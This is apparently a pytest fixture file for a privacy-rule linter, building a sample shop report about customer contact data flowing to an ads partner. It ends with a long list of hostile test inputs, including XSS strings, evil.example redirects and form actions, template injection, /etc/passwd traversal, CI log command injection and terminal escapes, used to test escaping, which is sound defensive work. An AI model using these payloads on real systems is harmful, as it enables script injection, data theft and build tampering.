"""One report of a small shop, made by hand, and what the tests of its notations share."""

from __future__ import annotations

import os
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from hypothesis import strategies as st

from enforcer.words import (
    Accepted,
    Change,
    Coverage,
    Decides,
    DecidingChange,
    ExitCode,
    Finding,
    Hop,
    Phase,
    Proposed,
    Protection,
    Report,
    RuleCard,
    RuleOutcome,
    Saying,
    SayingChange,
    Severity,
    verbatim,
)
from lineage import Column, Gap, GapReason, Origin, TransformSubtype

if TYPE_CHECKING:
    from collections.abc import Callable

GOLDEN = Path(__file__).parents[2] / "golden" / "report"

CONTACT = RuleCard(
    id="raw-contact-outside-crm",
    title="Contact data in the clear leaves the CRM zone",
    pack="baseline",
    phase=Phase.USE,
    severity=Severity.ERROR,
    law=("GDPR Art. 5(1)(b)", "PIPL Art. 6"),
    why="An address that was given for an order is not given for advertising. Once a\n"
    "partner has it in the clear, no later statement takes it back.",
    fix="Send a keyed hash, such as hmac_sha256(email, key), or keep the rows at home.",
)
RETENTION = RuleCard(
    id="retention-declared",
    title="Personal data rests where no retention is declared",
    pack="baseline",
    phase=Phase.STORAGE,
    severity=Severity.WARNING,
    law=("GDPR Art. 5(1)(e)",),
    why="What has no end date is kept for ever.",
    fix="State `retention` in the model's meta.",
)
CONSENT = RuleCard(
    id="advertising-needs-consent",
    title="Advertising without a consent guard",
    pack="baseline",
    phase=Phase.USE,
    severity=Severity.NOTE,
    why="Direct marketing rests on consent.",
    fix="Filter on marketing_consent.",
)
RESIDENCY = RuleCard(
    id="stays-in-region",
    title="Data leaves its region",
    pack="residency",
    phase=Phase.STORAGE,
    severity=Severity.ERROR,
    why="Transfers need a ground.",
    fix="Keep it in its region.",
)

AD_AUDIENCE = "models/marts/marketing/ad_audience.sql"
CLEAR = (Protection.CLEAR,)


def _email_to_ads() -> Finding:
    return Finding(
        rule=CONTACT,
        field=Column("raw.customers", "email"),
        category="user.contact.email",
        sink="ads.ad_audience",
        flow="direct",
        message=verbatim(
            "raw.customers.email (user.contact.email) reaches ads.ad_audience, a place of"
            " the partner Adnet, in the clear."
        ),
        origin=Origin(AD_AUDIENCE, 9, 3),
        path=(
            Hop(Column("raw.customers", "email"), Origin("seeds/customers.csv", 1, 10), None),
            Hop(
                Column("staging.stg_customers", "email"),
                Origin("models/staging/stg_customers.sql", 4, 5),
                TransformSubtype.IDENTITY,
                (),
                CLEAR,
            ),
            Hop(
                Column("reachable", "contact"),
                Origin(AD_AUDIENCE, 3, 9),
                TransformSubtype.TRANSFORMATION,
                ("lower", "trim"),
                CLEAR,
            ),
            Hop(
                Column("ads.ad_audience", "contact"),
                Origin(AD_AUDIENCE, 9, 3),
                TransformSubtype.AGGREGATION,
                ("max", "coalesce"),
                (Protection.CLEAR, Protection.HASHED),
            ),
        ),
    )


def _phone_to_ads() -> Finding:
    return Finding(
        rule=CONTACT,
        field=Column("raw.customers", "phone"),
        category="user.contact.phone_number",
        sink="ads.ad_audience",
        flow="filter",
        message=verbatim(
            "raw.customers.phone (user.contact.phone_number) decides which rows are in"
            " ads.ad_audience."
        ),
        origin=Origin(AD_AUDIENCE, 12, 7),
        path=(
            Hop(Column("raw.customers", "phone"), Origin("seeds/customers.csv", 1, 16), None),
            Hop(
                Column("ads.ad_audience", "*"),
                Origin(AD_AUDIENCE, 12, 7),
                TransformSubtype.FILTER,
                ("is",),
                CLEAR,
            ),
        ),
    )


def _no_retention(relation: str) -> Finding:
    return Finding(
        rule=RETENTION,
        field=Column(relation, ""),
        category="user",
        sink="",
        flow="",
        message=verbatim(f"{relation} holds user data and declares no retention."),
        origin=Origin(f"models/{relation.replace('.', '/')}.sql", 1, 1),
    )


def shop_report() -> Report:
    waived = _no_retention("staging.stg_orders")
    known = _no_retention("staging.stg_payments")
    return Report(
        tool="fieldgate 0.1.0",
        coverage=Coverage(statements=42, analysed=41, relations=14, columns=96),
        findings=(_no_retention("marts.fct_tickets"), _phone_to_ads(), _email_to_ads()),
        accepted=(
            Accepted(finding=known, by="baseline"),
            Accepted(
                finding=waived,
                by="waiver",
                reason="Retention is set, DATA-118",
                owner="dana@shop.example",
                expires="2026-12-31",
            ),
        ),
        gaps=(
            Gap(
                GapReason.DYNAMIC_SQL,
                "the text of EXECUTE IMMEDIATE is put together at run time",
                ("marts.agent_queue", "raw.support_tickets"),
                Origin("scripts/rebuild_queue.sql", 14, 1),
            ),
        ),
        rules=(
            RuleOutcome(rule=CONSENT, judged=7, findings=0),
            RuleOutcome(rule=CONTACT, judged=31, findings=2),
            RuleOutcome(rule=RETENTION, judged=14, findings=1),
            RuleOutcome(rule=RESIDENCY, judged=0, findings=0),
        ),
        notes=("No place declares a region, so rules about residency judged nothing.",),
        exit_code=ExitCode.FINDINGS,
    )


@pytest.fixture(scope="session")
def shop() -> Report:
    """A shop whose customers' addresses reach an ads partner through a CTE."""
    return shop_report()


@pytest.fixture(scope="session")
def filled() -> Callable[[str], Report]:
    """A report that has the given text wherever a stranger can put text."""
    return filled_with


@pytest.fixture(scope="session")
def matches_golden() -> Callable[[str, str], None]:
    """Asserts that a text is, to the byte, the golden file of that name.

    Run with UPDATE_GOLDEN=1 to write the files anew, then read the difference.
    """

    def check(text: str, name: str) -> None:
        golden = GOLDEN / name
        if os.environ.get("UPDATE_GOLDEN"):
            golden.parent.mkdir(parents=True, exist_ok=True)
            golden.write_text(text, encoding="utf-8")
        assert text == golden.read_text(encoding="utf-8")

    return check


@pytest.fixture(scope="session")
def payloads() -> tuple[str, ...]:
    """Texts that mean something to a terminal, a build server, a browser or a viewer."""
    return PAYLOADS


@pytest.fixture(scope="session")
def hostile() -> st.SearchStrategy[str]:
    """Any text, lone surrogates included, often with a piece that means something."""
    return hostile_text()


def hostile_text() -> st.SearchStrategy[str]:
    piece = st.one_of(
        st.text(st.characters(codec=None), max_size=8),
        st.sampled_from(PAYLOADS),
        st.sampled_from(["::", "##[", "##vso[", "\n", "\r", " ", "\t", "\x1b[31m", "\\", "\\u{"]),
    )
    return st.lists(piece, max_size=6).map("".join)


def filled_with(text: str) -> Report:
    """Rule ids and the rest of a card too: a project may have rules of its own."""
    # A fingerprint is taken of text that can be encoded, which a lone surrogate cannot.
    sound = text.encode("utf-8", "replace").decode("utf-8")
    column = Column(text, text)
    origin = Origin(text, 1, 1)
    card = RuleCard(
        id=sound,
        title=text,
        pack=text,
        phase=Phase.USE,
        severity=Severity.ERROR,
        law=(text, text),
        why=text,
        fix=text,
    )
    hops = (
        Hop(column, origin),
        Hop(column, origin, TransformSubtype.JOIN, (text, text), CLEAR),
    )
    finding = Finding(
        rule=card,
        field=Column(sound, sound),
        category=text,
        sink=sound,
        flow=sound,
        message=verbatim(text),
        origin=origin,
        path=hops,
    )
    return Report(
        tool=text,
        coverage=Coverage(statements=2, analysed=1, relations=1, columns=1),
        findings=(finding,),
        accepted=(Accepted(finding=finding, by=text, reason=text, owner=text, expires=text),),
        gaps=(Gap(GapReason.PARSE_ERROR, text, (text, text), origin),),
        rules=(
            RuleOutcome(rule=card, judged=1, findings=1),
            RuleOutcome(rule=card, judged=0, findings=0),
        ),
        notes=(text,),
        exit_code=ExitCode.FINDINGS,
        proposed=Proposed(
            commit="0123456789abcdef" * 2 + "01234567",
            configured=False,
            files=(DecidingChange(text, Decides.RULE, Change.DELETED),),
            sayings=tuple(SayingChange(column, change, text) for change in Saying),
            cleared=(finding.fingerprint,),
            added=(finding.fingerprint,),
        ),
    )


PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script href=data:,alert(1) />",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</dd></dl></article></main><h1>0 findings</h1>",
    "<!--",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<form action=//evil.example><input name=q><button>go</button></form>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<video><source onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<plaintext>",
    "<textarea>",
    "<xmp>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "` onmouseover=`alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "&colon;&sol;",
    "\\u003cscript\\u003ealert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\uff1cscript\uff1ealert(1)",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<\u200bscript>alert(1)",
    "{{ 7 * 7 }}",
    "{% raw %}",
    "{{ ''.__class__.__mro__ }}",
    "${7*7}",
    "{0} {1}",
    "](javascript:alert(1))",
    "[x](javascript:alert(1))",
    "![x](//evil.example/x.png)",
    "[a\\](javascript:alert(1))",
    "javascript:alert(1)",
    "file:///etc/passwd",
    "//evil.example/x.sql",
    "../../../../etc/passwd",
    "%2e%2e/%2e%2e/etc/passwd",
    "/etc/passwd",
    "C:\\Windows\\win.ini",
    "::error::owned",
    "  ::set-output name=x::owned",
    "\n::error file=a,line=1::owned",
    "\r::stop-commands::x",
    "\u2028::error::owned",
    "##[error]owned",
    "x ##[add-matcher]m.json",
    "###[group]owned",
    "##vso[task.setvariable variable=x]owned",
    "##teamcity[buildProblem]",
    "\x1b[2J\x1b[1;1Hclean",
    "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07",
    "\x1b]0;owned\x07",
    "\x9b31m",
    "\x08\x08\x08\x08clean",
    "\x7f\x7f",
    "em\u0430il",
    "\u202egnp.lqs",
    "\u2066x\u2069",
    "a\u00a0b\u3000c",
    "\ud800",
    "\udc80\udcff",
    "\U000e0041\U000e0042",
    "\ufeffx",
    "\\u{1b}[31m",
    "\\",
    "error[other-rule]: not a finding",
    "  --> models/other.sql:1:1",
    "Verdict: 0 errors",
    "a" * 500,
    "\U0001f469\u200d\U0001f4bb",
    "",
    " ",
)
